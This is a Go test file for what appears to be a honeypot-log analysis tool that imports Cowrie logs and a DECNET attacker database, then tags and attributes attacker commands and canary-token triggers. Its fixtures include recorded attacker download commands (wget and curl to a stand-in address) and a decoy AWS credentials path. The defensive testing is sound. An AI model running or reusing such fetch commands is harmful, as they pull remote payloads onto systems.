package main

import (
	"bytes"
	"compress/gzip"
	"database/sql"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/ttpcron/ttpcron"
	"github.com/ttpcron/ttpcron/internal/testlogs"
	"github.com/ttpcron/ttpcron/jobs"
	"github.com/ttpcron/ttpcron/kv"
)

// program runs ttpcron on one store with the test's few rules.
type program struct {
	t   *testing.T
	env []string
}

func newProgram(t *testing.T, env ...string) program {
	rules, err := filepath.Abs("testdata/rules")
	if err != nil {
		t.Fatal(err)
	}
	return program{t, append([]string{"TTPCRON_DB=" + filepath.Join(t.TempDir(), "t.db"), "TTPCRON_EMBEDDED=false", "TTPCRON_RULES=" + rules}, env...)}
}

// ok runs a command that must succeed, and returns what it printed.
func (p program) ok(args ...string) string {
	p.t.Helper()
	code, stdout, stderr := invoke(p.t, p.env, args...)
	if code != exitDone {
		p.t.Fatalf("ttpcron %s: exit %d\n%s", strings.Join(args, " "), code, stderr)
	}
	return stdout
}

// sum adds up one number of JSON lines.
func sum(t *testing.T, jsonLines, name string) int {
	t.Helper()
	total := 0
	for _, line := range strings.Split(strings.TrimSpace(jsonLines), "\n") {
		var m map[string]any
		if err := json.Unmarshal([]byte(line), &m); err != nil {
			t.Fatalf("%q: %v", line, err)
		}
		n, ok := m[name].(float64)
		if !ok {
			t.Fatalf("%s has no number %s", line, name)
		}
		total += int(n)
	}
	return total
}

// source returns a source's line.
func source(t *testing.T, jsonLines, name string) string {
	t.Helper()
	for _, line := range strings.Split(jsonLines, "\n") {
		if strings.HasPrefix(line, `{"source":"`+name+`"`) {
			return line
		}
	}
	t.Fatalf("no source %s in\n%s", name, jsonLines)
	return ""
}

// TestLogs imports whole folders of logs and counts their events by other means.
func TestLogs(t *testing.T) {
	for _, h := range testlogs.All(t) {
		t.Run(h.Name, func(t *testing.T) { importLogs(t, h) })
	}
}

func importLogs(t *testing.T, h testlogs.History) {
	logs := h.Cowrie()
	p := newProgram(t)
	want, all := h.CommandEvents(t), 0
	for _, n := range h.CowrieEvents(t) {
		all += n
	}
	if got := sum(t, p.ok("import", "--json", logs), "new"); got != all || want == 0 {
		t.Errorf("%d events imported, %d are in the logs", got, all)
	}
	copies := compressedCopies(t, h)
	second := p.ok("import", "--json", copies)
	if n := sum(t, second, "new"); n != 0 {
		t.Errorf("%d new events in copies under other names", n)
	}
	first := source(t, p.ok("run-once", "--since-days", "3650", "--json"), "command")
	if sum(t, first, "events") != want || sum(t, first, "inserted") == 0 || sum(t, first, "inserted") != sum(t, first, "tags") {
		t.Errorf("first run: %s", first)
	}
	again := source(t, p.ok("run-once", "--since-days", "3650", "--json"), "command")
	if sum(t, again, "inserted") != 0 || sum(t, again, "known") != sum(t, first, "inserted") || sum(t, again, "events") != want {
		t.Errorf("second run: %s", again)
	}
	p.ok("checkpoint", "reset")
	looked := source(t, p.ok("run-once", "--since-days", "3650", "--json"), "command")
	if sum(t, looked, "inserted") != 0 || sum(t, looked, "tags") != sum(t, first, "tags") {
		t.Errorf("run without what was covered: %s", looked)
	}
	if n := strings.Count(p.ok("tags", "--json"), "\n"); n != sum(t, first, "inserted") {
		t.Errorf("%d tags shown, %d inserted", n, sum(t, first, "inserted"))
	}
}

// compressedCopies writes the logs under other names, the plain ones compressed and the
// reverse, and two of them joined into one.
func compressedCopies(t *testing.T, h testlogs.History) string {
	t.Helper()
	to := t.TempDir()
	for i, path := range h.CowrieLogs(t) {
		text := testlogs.Content(t, path)
		name := filepath.Join(to, fmt.Sprintf("other-%02d.json", i))
		if !strings.HasSuffix(path, ".gz") {
			var b bytes.Buffer
			w := gzip.NewWriter(&b)
			w.Write(text)
			w.Close()
			text, name = b.Bytes(), name+".gz"
		}
		if err := os.WriteFile(name, text, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return to
}

const (
	knownAttacker  = "11111111-1111-4111-8111-111111111111"
	merged         = "22222222-2222-4222-8222-222222222222"
	identity       = "33333333-3333-4333-8333-333333333333"
	brokenAttacker = "44444444-4444-4444-8444-444444444444"
	fingerprint    = `{"_fp":{"nav":{"ua":"Mozilla/5.0 (X11; Linux x86_64) HeadlessChrome/120.0","pl":"Linux x86_64","lg":"en-US","lgs":["en-US"],"hc":2,"dm":8,"tp":0,"wd":true},
		"scr":{"w":800,"h":600,"dpr":1},"tz":{"z":"UTC","off":0},"cv":{"h":"a1b2"},"gl":{"v":"Google","r":"SwiftShader","uv":"Google Inc.","ur":"SwiftShader"},
		"au":{"err":"blocked"},"ft":null,"rtc":{"ip":["198.51.100.4"]},"bt":null,"id":"f00d"},"Host":"docs.example.com"}`
)

// buildDECNET writes a database as DECNET keeps it.
func buildDECNET(t *testing.T, path string) {
	t.Helper()
	db, err := sql.Open("sqlite", path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	exec := func(query string, args ...any) {
		t.Helper()
		if _, err := db.Exec(query, args...); err != nil {
			t.Fatal(err)
		}
	}
	exec(`CREATE TABLE attackers (uuid TEXT PRIMARY KEY, ip TEXT, identity_id TEXT, first_seen TIMESTAMP, last_seen TIMESTAMP, commands TEXT, country_code TEXT, asn INTEGER)`)
	exec(`CREATE TABLE canary_tokens (uuid TEXT PRIMARY KEY, kind TEXT, generator TEXT, instrumenter TEXT, placement_path TEXT, decky_name TEXT)`)
	exec(`CREATE TABLE canary_triggers (uuid TEXT PRIMARY KEY, token_uuid TEXT, occurred_at TIMESTAMP, src_ip TEXT, user_agent TEXT, request_path TEXT, dns_qname TEXT, raw_headers TEXT, attacker_id TEXT)`)
	attacker := func(uuid, ip string, identity any, commands string) {
		exec(`INSERT INTO attackers VALUES (?,?,?,?,?,?,?,?)`, uuid, ip, identity, "2026-05-01 00:00:00", "2026-05-09 10:11:12.123456", commands, "DE", 64496)
	}
	// Profiler, collector and older form; one without text, one that is not an object.
	attacker(knownAttacker, "203.0.113.7", nil, `[
		{"service":"ssh","decky":"web-1","command":"wget http://203.0.113.9/a","timestamp":"2026-05-02T03:04:05+00:00"},
		{"id":"cmd_42","command_text":"uname -a","ts":"2026-05-03 03:04:05","decky":"web-1","service":"ssh","uid":"0","user":"root"},
		{"service":"ssh","decky":"web-1","command":""},
		"not an object",
		{"text":"curl http://203.0.113.9/b"}]`)
	attacker(merged, "203.0.113.8", identity, `[{"command":"uname -r","timestamp":"2026-05-04T00:00:00Z"}]`)
	attacker(brokenAttacker, "203.0.113.9", nil, `[{"command":`)
	exec(`INSERT INTO attackers VALUES (?,?,NULL,?,?,NULL,NULL,NULL)`, "55555555-5555-4555-8555-555555555555", "203.0.113.10", "2026-05-01 00:00:00", "2026-05-09 10:11:12")
	exec(`INSERT INTO canary_tokens VALUES ('tok-1','http','fingerprint_html','html','/home/bob/plan.html','web-1')`)
	exec(`INSERT INTO canary_tokens VALUES ('tok-2','aws_passive','aws_creds','plain','/root/.aws/credentials','web-1')`)
	trigger := func(uuid, token, ip, agent, headers string, attacker any) {
		exec(`INSERT INTO canary_triggers VALUES (?,?,?,?,?,?,?,?,?)`, uuid, token, "2026-05-05 06:07:08.9", ip, agent, "/c/x", nil, headers, attacker)
	}
	trigger("trg-1", "tok-1", "203.0.113.7", "Mozilla/5.0", fingerprint, knownAttacker)
	trigger("trg-2", "tok-2", "203.0.113.8", "curl/8.5.0", `{"Host":"x"}`, nil)   // found by its address
	trigger("trg-3", "tok-2", "198.51.100.9", "curl/8.5.0", `not an object`, nil) // known by its address alone
}

// lifterRules are DECNET rules with built-in predicates, one of which is unknown.
func lifterRules(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	for name, predicate := range map[string]string{"known": "canary_webdriver", "unknown": "canary_from_the_future"} {
		rule := fmt.Sprintf("rule_id: LIFT_%s\nrule_version: 1\nname: %s\napplies_to: [canary_fingerprint]\nmatch: {kind: 'lifter:%s'}\nemits: [{tactic: TA0043, technique_id: T1595, confidence: 0.9}]\n", name, name, predicate)
		if err := os.WriteFile(filepath.Join(dir, name+".yaml"), []byte(rule), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func TestDECNET(t *testing.T) {
	path := filepath.Join(t.TempDir(), "decnet.db")
	buildDECNET(t, path)
	p := newProgram(t)
	p.env = append(p.env, "TTPCRON_RULES="+p.env[2][len("TTPCRON_RULES="):]+","+lifterRules(t))
	imported := p.ok("import", "--json", path)
	if n := sum(t, imported, "new"); n != 7 {
		t.Errorf("%d events, want 4 commands and 3 triggers: %s", n, imported)
	}
	if n := sum(t, p.ok("import", "--json", path), "new"); n != 0 {
		t.Errorf("%d new events the second time", n)
	}
	run := p.ok("run-once", "--since-days", "3650", "--json")
	command, canary := source(t, run, "command"), source(t, run, "canary")
	if sum(t, command, "events") != 4 || sum(t, command, "inserted") != 6 {
		t.Errorf("commands: %s", command)
	}
	if sum(t, canary, "events") != 3 || sum(t, canary, "tagged") != 3 || sum(t, canary, "inserted") != 3 {
		t.Errorf("canaries: %s", canary)
	}
	got := map[string][]string{}
	for _, line := range strings.Split(strings.TrimSpace(p.ok("tags", "--json")), "\n") {
		var tag struct {
			SourceID     string  `json:"source_id"`
			RuleID       string  `json:"rule_id"`
			AttackerUUID *string `json:"attacker_uuid"`
			IdentityUUID *string `json:"identity_uuid"`
		}
		if err := json.Unmarshal([]byte(line), &tag); err != nil {
			t.Fatal(err)
		}
		who := "-"
		if tag.AttackerUUID != nil {
			who = *tag.AttackerUUID
		}
		if tag.IdentityUUID != nil {
			who += "+" + *tag.IdentityUUID
		}
		if !slices.Contains(got[tag.SourceID], who) {
			got[tag.SourceID] = append(got[tag.SourceID], who)
		}
	}
	want := map[string]string{
		knownAttacker + "#cmd0": knownAttacker,
		"cmd_42":                knownAttacker,
		knownAttacker + "#cmd3": knownAttacker, // counted over the objects, the one without text too
		merged + "#cmd0":        merged + "+" + identity,
		"trg-1":                 knownAttacker, // by the browser's fingerprint
		"trg-2":                 merged + "+" + identity,
		"trg-3":                 ttpcron.DeriveAttacker("198.51.100.9"),
	}
	for id, who := range want {
		if !slices.Equal(got[id], []string{who}) {
			t.Errorf("%s is attributed to %v, want %s", id, got[id], who)
		}
	}
	rejects := p.ok("import", "--rejected", "--json")
	if !strings.Contains(rejects, brokenAttacker) {
		t.Errorf("the malformed list is not among the rejects:\n%s", rejects)
	}
}

// TestLateArrival shows that a resumed run tags an event older than everything
// that earlier runs saw, also after a run over a window in between.
func TestLateArrival(t *testing.T) {
	p := newProgram(t)
	file := func(name, at, text string) string {
		path := filepath.Join(t.TempDir(), name)
		line := fmt.Sprintf(`{"source_kind":"command","time":%q,"attacker_ip":"203.0.113.7","payload":{"command_text":%q}}`+"\n", at, text)
		if err := os.WriteFile(path, []byte(line), 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	p.ok("run-once", "--input", file("a.jsonl", "2026-05-01T00:00:00Z", "uname -a"))
	p.ok("import", file("b.jsonl", "1999-05-01T00:00:00Z", "uname -r"))
	p.ok("run-once", "--since-days", "1")
	if got := source(t, p.ok("run-once", "--json"), "command"); sum(t, got, "events") != 1 || sum(t, got, "inserted") != 1 {
		t.Errorf("the late event: %s", got)
	}
	if got := source(t, p.ok("run-once", "--json"), "command"); sum(t, got, "events") != 0 {
		t.Errorf("afterwards: %s", got)
	}
}

// allEvents lists a store's events in an order of their own, without arrival
// numbers.
func allEvents(t *testing.T, path string) []string {
	t.Helper()
	db, err := kv.Open(t.Context(), path, kv.Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	kinds, err := db.Kinds(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, k := range kinds {
		for d, err := range jobs.Days(t.Context(), db, k) {
			if err != nil {
				t.Fatal(err)
			}
			for page, err := range db.Events(t.Context(), k, d.Day, 0, d.LastSeq) {
				if err != nil {
					t.Fatal(err)
				}
				for _, e := range page {
					line, err := e.MarshalJSON()
					if err != nil {
						t.Fatal(err)
					}
					out = append(out, string(line))
				}
			}
		}
	}
	slices.Sort(out)
	return out
}
